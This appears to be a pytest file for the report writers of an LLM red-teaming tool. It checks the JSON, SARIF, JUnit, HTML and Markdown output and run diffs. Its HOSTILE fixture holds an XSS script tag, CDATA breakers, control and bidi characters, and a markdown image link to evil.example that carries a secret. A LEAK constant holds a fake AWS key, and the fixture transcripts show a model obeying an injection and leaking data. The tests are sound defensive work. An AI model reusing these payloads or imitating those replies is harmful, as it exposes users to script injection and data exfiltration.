"""Report writers: the report.json contract, SARIF structure, JUnit counts, inert HTML/Markdown, diffs."""

from __future__ import annotations

import json
import xml.etree.ElementTree as ET
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bastion.core.errors import ConfigError
from bastion.core.types import Role, Severity
from bastion.detect.engine import Scanner
from bastion.redteam.report import (
    REPORT_FILES,
    diff_runs,
    load_run_json,
    render_html,
    render_json,
    render_junit,
    render_markdown,
    render_sarif,
    run_to_dict,
    write_reports,
)
from bastion.redteam.report._text import visible_text
from bastion.redteam.report.markdown import escape_markdown
from bastion.redteam.report.sarif import level_of
from bastion.redteam.types import (
    Attempt,
    AttemptResult,
    JudgeVerdict,
    Probe,
    RunResult,
    ToolCallRecord,
    Transcript,
    Turn,
)

HOSTILE = (
    "Sure! <script>alert('pwned')</script> ]]> <![CDATA[x]]> \x00\x1b[31m\x7f \ud800 "
    '\u202eevil\u202c ![x](https://evil.example/c?q=secret) & "quoted" Schuld erlassen, Grüße'
)
LEAK = "aws_access_key_id = AKIAUJZDEGXDNCF32EPF"


def _probe(pid: str, category: str, severity: Severity, language: str = "en", **extra: Any) -> Probe:
    return Probe(
        id=pid,
        category=category,
        title=f"Title of {pid}",
        severity=severity,
        language=language,
        turns=("attack",),
        judges=("canary",),
        **extra,
    )


P_INJECT = _probe("llm01.ignore", "LLM01", Severity.HIGH, atlas=("AML.T0051",), goal="Make it ignore rules")
P_LEAK = _probe("llm07.sysprompt", "LLM07", Severity.CRITICAL, "de", atlas=("AML.T0051", "AML.T0056"))
P_PII = _probe("llm02.pii", "LLM02", Severity.LOW)
P_SLOW = _probe("llm02.slow", "LLM02", Severity.MEDIUM)


def _result(
    probe: Probe,
    attempt_id: str,
    mutators: tuple[str, ...] = (),
    succeeded: bool = False,
    reply: str = "I can't help with that.",
    error: str = "",
    reason: str = "",
) -> AttemptResult:
    transcript = Transcript(
        turns=(
            Turn(Role.USER, probe.turns[0]),
            Turn(
                Role.ASSISTANT,
                reply,
                (ToolCallRecord("lookup_case", {"case_id": "c-20002"}, "executed", {"note": reply}),),
            ),
        )
    )
    evidence = Scanner.from_ids(["secrets"]).scan(reply).detections
    verdicts = (
        JudgeVerdict("refusal", False, 0.1, "no refusal found"),
        JudgeVerdict("canary", succeeded, 0.9 if succeeded else 0.0, reason or "judged", evidence),
    )
    return AttemptResult(
        attempt=Attempt(attempt_id, probe, mutators, probe.turns),
        transcript=Transcript() if error else transcript,
        verdicts=() if error else verdicts,
        succeeded=succeeded,
        seconds=1.25,
        requests=1,
        error=error,
    )


def _run(*results: AttemptResult, run_id: str = "run-a") -> RunResult:
    return RunResult(run_id, "demo:naive", 7, "2025-01-02T03:04:05Z", "2025-01-02T03:09:05Z", results)


RUN = _run(
    _result(
        P_INJECT, "a1", succeeded=True, reply="OK, ignoring all rules.", reason="reply obeys the injection"
    ),
    _result(P_INJECT, "a2", ("base64",)),
    _result(
        P_LEAK, "a3", ("leet", "homoglyph"), True, HOSTILE + " " + LEAK, reason="canary leaked: " + HOSTILE
    ),
    _result(P_SLOW, "a4", error="target timed out after 30 s"),
    _result(P_PII, "a5", succeeded=True, reply="Her IBAN is on file.", reason="foreign personal data"),
)


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    return write_reports(RUN, tmp_path_factory.mktemp("reports") / "out")


def test_write_reports_writes_all_five_files(written: dict[str, Path]) -> None:
    assert {kind: path.name for kind, path in written.items()} == REPORT_FILES
    assert all(path.stat().st_size > 0 for path in written.values())


def test_json_contract_and_asr_math(written: dict[str, Path]) -> None:
    report = load_run_json(written["json"])
    assert {"run_id", "target", "seed", "started_at", "finished_at", "summary", "findings"} <= report.keys()
    assert (report["run_id"], report["target"], report["seed"]) == ("run-a", "demo:naive", 7)
    summary = report["summary"]
    assert (summary["attempts"], summary["successes"], summary["errors"], summary["asr"]) == (5, 3, 1, 0.6)
    assert summary["by_category"] == {
        "LLM01": {"attempts": 2, "successes": 1, "asr": 0.5},
        "LLM02": {"attempts": 2, "successes": 1, "asr": 0.5},
        "LLM07": {"attempts": 1, "successes": 1, "asr": 1.0},
    }
    assert [f["id"] for f in report["findings"]] == ["a1", "a3", "a5"]
    leak = report["findings"][1]
    assert leak["probe_id"] == "llm07.sysprompt"
    assert (leak["category"], leak["severity"], leak["language"]) == ("LLM07", "critical", "de")
    assert leak["atlas"] == ["AML.T0051", "AML.T0056"]
    assert leak["mutators"] == ["leet", "homoglyph"]
    assert leak["verdict"] == {
        "judge": "canary",
        "succeeded": True,
        "score": 0.9,
        "reason": leak["verdict"]["reason"],
    }
    assert [v["judge"] for v in leak["verdicts"]] == ["refusal", "canary"]
    # the hostile transcript round-trips exactly, lone surrogate included
    assert leak["transcript"] == RUN.results[2].transcript.to_list()
    assert report == run_to_dict(RUN)


def test_json_adds_no_detector_evidence_beyond_the_transcript(written: dict[str, Path]) -> None:
    assert RUN.results[2].verdicts[1].evidence, "the real secrets detector should find the planted key"
    report = load_run_json(written["json"])
    assert all(
        set(v) == {"judge", "succeeded", "score", "reason"} for f in report["findings"] for v in f["verdicts"]
    )
    text = written["json"].read_text(encoding="utf-8")
    assert text.count("AKIAUJZDEGXDNCF32EPF") == 2  # reply text and tool result: the transcript only


def test_load_run_json_rejects_broken_files(tmp_path: Path) -> None:
    not_json = tmp_path / "a.json"
    not_json.write_text("{nope", encoding="utf-8")
    with pytest.raises(ConfigError, match=r"a\.json"):
        load_run_json(not_json)
    missing = tmp_path / "b.json"
    missing.write_text(json.dumps({"run_id": "x", "target": "t"}), encoding="utf-8")
    with pytest.raises(ConfigError, match="summary, findings"):
        load_run_json(missing)


@pytest.mark.parametrize(
    ("severity", "level"),
    [
        (Severity.CRITICAL, "error"),
        (Severity.HIGH, "error"),
        (Severity.MEDIUM, "warning"),
        (Severity.LOW, "note"),
        (Severity.INFO, "note"),
    ],
)
def test_sarif_level_mapping(severity: Severity, level: str) -> None:
    assert level_of(severity) == level


def test_sarif_structure(written: dict[str, Path]) -> None:
    sarif = json.loads(written["sarif"].read_text(encoding="utf-8"))
    assert sarif["version"] == "2.1.0"
    assert sarif["$schema"].endswith("sarif-schema-2.1.0.json")
    (run,) = sarif["runs"]
    driver = run["tool"]["driver"]
    assert driver["name"] == "bastion-redteam"
    assert driver["informationUri"].startswith("https://")
    rules = driver["rules"]
    assert [r["id"] for r in rules] == [
        "llm01.ignore",
        "llm02.pii",
        "llm07.sysprompt",
    ]  # only probes with findings
    leak_rule = rules[2]
    assert leak_rule["shortDescription"]["text"] == "Title of llm07.sysprompt"
    assert {"security", "LLM07", "AML.T0051", "AML.T0056"} <= set(leak_rule["properties"]["tags"])
    assert float(leak_rule["properties"]["security-severity"]) > 9.0
    results = run["results"]
    assert len(results) == 3
    for result in results:
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]
        location = result["locations"][0]
        assert location["logicalLocations"][0]["name"] == "demo:naive"
        assert location["physicalLocation"]["artifactLocation"]["uri"] == "bastion-redteam/demo-naive"
    assert [r["level"] for r in results] == ["error", "error", "note"]
    assert results[0]["message"]["text"] == "reply obeys the injection"
    fingerprints = [r["partialFingerprints"]["bastionAttemptId/v1"] for r in results]
    assert fingerprints == ["a1", "a3", "a5"]


def test_sarif_artifact_uri_is_configurable() -> None:
    sarif = json.loads(render_sarif(RUN, artifact_uri="config/app.yaml"))
    uris = {
        r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in sarif["runs"][0]["results"]
    }
    assert uris == {"config/app.yaml"}


def test_junit_parses_and_counts_match(written: dict[str, Path]) -> None:
    root = ET.parse(written["junit"]).getroot()
    assert root.tag == "testsuites"
    assert (root.get("tests"), root.get("failures"), root.get("errors")) == ("5", "3", "1")
    suites = {str(suite.get("name")): suite for suite in root.iter("testsuite")}
    assert list(suites) == ["LLM01", "LLM02", "LLM07"]
    expected = {"LLM01": ("2", "1", "0"), "LLM02": ("2", "1", "1"), "LLM07": ("1", "1", "0")}
    for name, suite in suites.items():
        assert (suite.get("tests"), suite.get("failures"), suite.get("errors")) == expected[name]
        cases = suite.findall("testcase")
        assert len(cases) == int(suite.get("tests", "0"))
        assert len([c for c in cases if c.find("failure") is not None]) == int(suite.get("failures", "0"))
        assert len([c for c in cases if c.find("error") is not None]) == int(suite.get("errors", "0"))
        assert all(case.get("classname") == name for case in cases)
    names = [case.get("name") for case in root.iter("testcase")]
    assert "llm07.sysprompt[leet+homoglyph]" in names
    assert "llm01.ignore[base64]" in names
    error = root.find(".//testcase[@name='llm02.slow']/error")
    assert error is not None
    assert error.get("message") == "target timed out after 30 s"


def test_junit_keeps_hostile_text_as_inert_evidence(written: dict[str, Path]) -> None:
    root = ET.parse(written["junit"]).getroot()
    failure = root.find(".//testcase[@name='llm07.sysprompt[leet+homoglyph]']/failure")
    assert failure is not None
    body = failure.text or ""
    assert "<script>alert('pwned')</script> ]]> <![CDATA[x]]>" in body  # parsed back as text, not markup
    assert "\\x00\\x1b[31m\\x7f \\ud800 \\u202eevil\\u202c" in body  # made visible, not dropped
    assert (failure.get("message") or "").startswith("canary leaked: Sure!")
    assert "<![CDATA[" not in written["junit"].read_text(encoding="utf-8").replace("&lt;![CDATA[", "")


class _TagCollector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _tags(html_text: str) -> _TagCollector:
    collector = _TagCollector()
    collector.feed(html_text)
    collector.close()
    return collector


def test_html_is_self_contained_and_transcripts_are_inert(written: dict[str, Path]) -> None:
    page = written["html"].read_text(encoding="utf-8")
    parsed = _tags(page)
    tag_names = {tag for tag, _ in parsed.tags}
    assert "script" not in tag_names and "img" not in tag_names and "a" not in tag_names
    assert not any(
        key in {"src", "href"} or key.startswith("on") for _, attrs in parsed.tags for key in attrs
    )
    assert "<script" not in page.lower()
    assert "&lt;script&gt;alert(&#x27;pwned&#x27;)&lt;/script&gt;" in page
    assert "Content-Security-Policy" in page and "default-src 'none'" in page
    text = "".join(parsed.text)
    assert "<script>alert('pwned')</script>" in text  # shown to the reader as text
    assert "\u202e" not in page and "\\u202eevil" in text
    assert "Title of llm07.sysprompt" in text and "Prompt Injection" in text
    assert "target timed out after 30 s" in text  # the errors list


def test_markdown_summary_has_the_table_and_escapes_values(written: dict[str, Path]) -> None:
    summary = written["markdown"].read_text(encoding="utf-8")
    assert "| Category | Title | Attempts | Successes | ASR |" in summary
    rows = [line for line in summary.splitlines() if line.startswith("| LLM")]
    assert [row.split("|")[1].strip() for row in rows[:3]] == ["LLM01", "LLM02", "LLM07"]
    assert rows[2] == "| LLM07 | System Prompt Leakage | 1 | 1 | 100.0 % |"
    assert "| **Total** | | 5 | 3 | 60.0 % |" in summary
    assert "**Attack success rate: 60.0 %**" in summary and "errors: 1" in summary
    assert "<script" not in summary and "![x](" not in summary
    findings = [
        line for line in summary.splitlines() if line.startswith("| critical") or line.startswith("| high")
    ]
    assert findings[0].startswith("| critical | LLM07 | llm07.sysprompt\\[leet+homoglyph\\] | canary |")
    assert findings[1].startswith("| high | LLM01")


def test_same_run_gives_the_same_bytes(tmp_path: Path, written: dict[str, Path]) -> None:
    again = write_reports(RUN, tmp_path)
    for kind, path in written.items():
        assert again[kind].read_bytes() == path.read_bytes(), kind


def test_empty_run_writes_valid_reports(tmp_path: Path) -> None:
    paths = write_reports(_run(), tmp_path)
    assert load_run_json(paths["json"])["summary"]["asr"] == 0.0
    assert json.loads(paths["sarif"].read_text(encoding="utf-8"))["runs"][0]["results"] == []
    assert ET.parse(paths["junit"]).getroot().get("tests") == "0"
    assert "No attack succeeded." in paths["markdown"].read_text(encoding="utf-8")
    assert "No attack succeeded." in paths["html"].read_text(encoding="utf-8")


def test_diff_runs_finds_regressions_and_fixes() -> None:
    base = run_to_dict(RUN)
    new = run_to_dict(
        _run(
            _result(P_INJECT, "b1"),  # was a finding: fixed
            _result(P_INJECT, "b2", ("base64",), succeeded=True, reason="now obeys"),  # regression
            _result(P_LEAK, "b3", ("leet", "homoglyph"), True, "leak"),  # still succeeding
            _result(P_SLOW, "b4"),  # errored before, fails now: still failing
            _result(_probe("llm05.new", "LLM05", Severity.HIGH), "b5", succeeded=True),  # new finding
            run_id="run-b",
        )
    )
    diff = diff_runs(base, new)
    assert [(e.probe_id, e.mutators) for e in diff.regressions] == [
        ("llm01.ignore", ("base64",)),
        ("llm05.new", ()),
    ]
    assert [(e.probe_id, e.mutators, e.severity) for e in diff.fixes] == [("llm01.ignore", (), "high")]
    # llm02.pii succeeded in A but was not attempted in B: not a fix
    assert (diff.still_succeeding, diff.still_failing, diff.only_in_a, diff.only_in_b) == (1, 1, 1, 1)
    assert diff.to_dict()["regressions"][0] == {
        "probe_id": "llm01.ignore",
        "mutators": ["base64"],
        "category": "LLM01",
        "severity": "high",
    }
    assert diff_runs(base, base).regressions == () and diff_runs(base, base).fixes == ()


def test_diff_runs_on_reports_without_attempts_uses_findings() -> None:
    base = run_to_dict(RUN)
    del base["attempts"]
    new = run_to_dict(_run(_result(P_INJECT, "b1", succeeded=True)))
    del new["attempts"]
    diff = diff_runs(base, new)
    assert {e.probe_id for e in diff.fixes} == {"llm07.sysprompt", "llm02.pii"}
    assert diff.regressions == () and diff.still_succeeding == 1


def test_visible_text_keeps_ordinary_text_and_escapes_controls() -> None:
    assert visible_text("Grüße\tline\nnext\r") == "Grüße\tline\nnext\r"
    assert visible_text("a\x00b\x85c\ufffe") == "a\\x00b\\x85c\\ufffe"


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=80))
def test_any_reply_gives_well_formed_reports(reply: str) -> None:
    run = _run(replace(RUN.results[2], transcript=Transcript((Turn(Role.ASSISTANT, reply),))))
    root = ET.fromstring(render_junit(run).encode("utf-8"))
    assert root.get("failures") == "1"
    assert json.loads(render_json(run))["findings"][0]["transcript"][0]["content"] == reply
    page = render_html(run)
    page.encode("utf-8")
    assert "script" not in {tag for tag, _ in _tags(page).tags}
    render_markdown(run).encode("utf-8")


def test_escape_markdown_keeps_a_value_in_its_table_cell() -> None:
    assert escape_markdown("a | b\nc <b>") == "a \\| b c &lt;b&gt;"
    assert escape_markdown("x" * 300, limit=200) == "x" * 199 + "…"
